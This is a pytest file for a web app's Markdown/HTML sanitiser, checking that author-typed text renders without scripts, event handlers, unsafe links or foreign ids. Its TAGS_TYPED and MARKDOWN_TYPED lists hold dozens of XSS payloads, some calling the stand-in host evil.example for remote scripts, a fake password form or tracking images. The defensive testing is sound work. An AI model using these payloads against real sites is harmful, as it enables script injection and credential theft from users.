"""Nothing that an author writes executes, frames, styles, or takes the name of something of ours."""

import re
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from network import markup
from network.markup import Target, fill, render

TAGS = set(
    "p br hr h2 h3 h4 h5 h6 strong em code pre blockquote ul ol li a sup div table thead tbody tr th td figure "
    "figcaption img span".split()
)
ATTRIBUTES = {"href", "class", "data-link", "title", "rel", "id", "start", "src", "alt", "loading"}

TAGS_TYPED = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='position:fixed;inset:0'>cover</p>",
    "<div onmouseover=alert(1)>x</div>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a id=actor name=body>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php alert(1) ?>",
    "<p hx-get=/desk/ data-controller=x>x</p>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u0002<script>alert(1)</script>\u0003",
    "＜script＞alert(1)＜/script＞",
]
MARKDOWN_TYPED = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    '[x](/ok "onmouseover=alert(1)")',
    '[x](/ok "a\\" onmouseover=\\"alert(1)")',
    "[x](/ok' onmouseover='alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<javascript://x%0Aalert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](//evil.example/track.gif)",
    "![x](https://evil.example/track.gif)",
    '![x" onerror="alert(1)](/ok.png)',
    '![x](/ok.png "a\\" onerror=\\"alert(1)")',
    "![`<img src=x onerror=alert(1)>`](/ok.png)",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```\n<script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| x |\n|:-:|\n| [x](javascript:alert(1)) |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '[^"onclick="alert(1)]\n\n[^"onclick="alert(1)]: x',
    "[^x]\n\n[^x]: [y](javascript:alert(1))",
    "# <script>alert(1)</script>",
    '# x {: onclick="alert(1)" }',
    '# " onclick="alert(1)',
    "- [ ] <input onfocus=alert(1)>",
    "[[semarang/x|<script>alert(1)</script>]]",
    '[[semarang/x|" onclick="alert(1)]]',
    "[[semarang/x|[y](javascript:alert(1))]]",
    "[[semarang/x|<https://evil.example>]]",
    "[[javascript:alert(1)]]",
    '[[semarang/x" onclick="alert(1)]]',
    "*[x](javascript:alert(1))*",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "> <script>alert(1)</script>",
    "wzxhzdk:0 \u0002wzxhzdk:0\u0003 klzzwxh:0000",
    "[x](https://evil.example/\u202egnp.exe)",
]
TARGETS = {"semarang/x": Target('/cities/semarang/library/x"onclick="', 'A title with <script> and "quotes"')}


class Page(HTMLParser):
    """Every element of a page that holds the text; also fails on tags that do not close in order."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()
        assert not self.open, f"left open: {self.open}"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in ("br", "hr", "img"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"a processing instruction: {data}")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"a declaration: {data}")


def examine(html: str, anchor: str) -> None:
    for tag, attributes in Page(html).elements:
        assert tag in TAGS, tag
        assert set(attributes) <= ATTRIBUTES, (tag, attributes)
        for name, value in attributes.items():
            text = value or ""
            if name == "id":
                assert text.startswith(f"{anchor}-"), "an id of theirs could take the place of one of ours"
            if name == "href":
                assert re.match(rf"https?://|mailto:|/|#{anchor}-", text), text
            if name == "src":
                assert re.match(r"/(?!/)", text), "pictures come from this site"
            if name == "class":
                assert set(text.split()) <= {*markup._CLASSES, "wanted"}


@pytest.mark.parametrize("typed", [*TAGS_TYPED, *MARKDOWN_TYPED])
def test_a_known_attack(typed: str) -> None:
    text = f"Before.\n\n{typed}\n\nAfter."
    if markup.problem(text) == "unreadable":
        return
    rendered = render(text, "results")
    examine(rendered.html.replace(' data-link="', ' title="'), "results")
    examine(fill(rendered.html, {}, 'not "there"'), "results")
    examine(fill(rendered.html, TARGETS, ""), "results")
    assert rendered.text.startswith("Before.")
    assert "After." in rendered.text


@pytest.mark.parametrize("typed", [typed for typed in TAGS_TYPED if not set("`&\x02") & set(typed)])
def test_tags_are_shown_as_they_were_typed(typed: str) -> None:
    """Nothing an author types disappears: what is no Markdown is text."""
    assert render(f"x {typed} x", "results").text == f"x {typed} x"


@given(st.text(st.sampled_from("<>\"'=&;/!-[]()`*_#|:\\ \n\tabhrefonclickscript^{}"), max_size=120))
def test_whatever_is_typed_is_harmless(typed: str) -> None:
    try:
        html = render(typed, "results").html
    except ValueError:
        return
    examine(fill(html, {}, ""), "results")


@pytest.mark.parametrize("typed", [*TAGS_TYPED, *MARKDOWN_TYPED])
def test_sanitising_again_changes_nothing(typed: str) -> None:
    """A browser's parser must see what the sanitiser saw."""
    if markup.problem(typed):
        return
    html = fill(render(typed, "results").html, {}, "")
    attributes = {tag: set(names) - {"rel"} for tag, names in markup._ATTRIBUTES.items()}
    again = nh3.clean(
        html,
        tags=markup._TAGS,
        attributes={**attributes, "a": attributes["a"] | {"rel"}, "span": {"class", "title"}},
        link_rel=None,
        url_schemes={"http", "https", "mailto"},
    )
    assert again == html


def test_links_leave_the_site_only_openly() -> None:
    html = render(
        "[a](https://x.example) <https://y.example> [b](//z.example) [c](/desk/) [d](mailto:a@b.example)", "s"
    ).html
    assert html.count('rel="external nofollow noopener"') == 3
    assert 'href="/desk/">' in html


def test_another_site_s_picture_becomes_a_link_to_it() -> None:
    html = render("![A pump](https://x.example/pump.jpg)", "s").html
    assert html == '<p><a href="https://x.example/pump.jpg" rel="external nofollow noopener">A pump</a></p>'
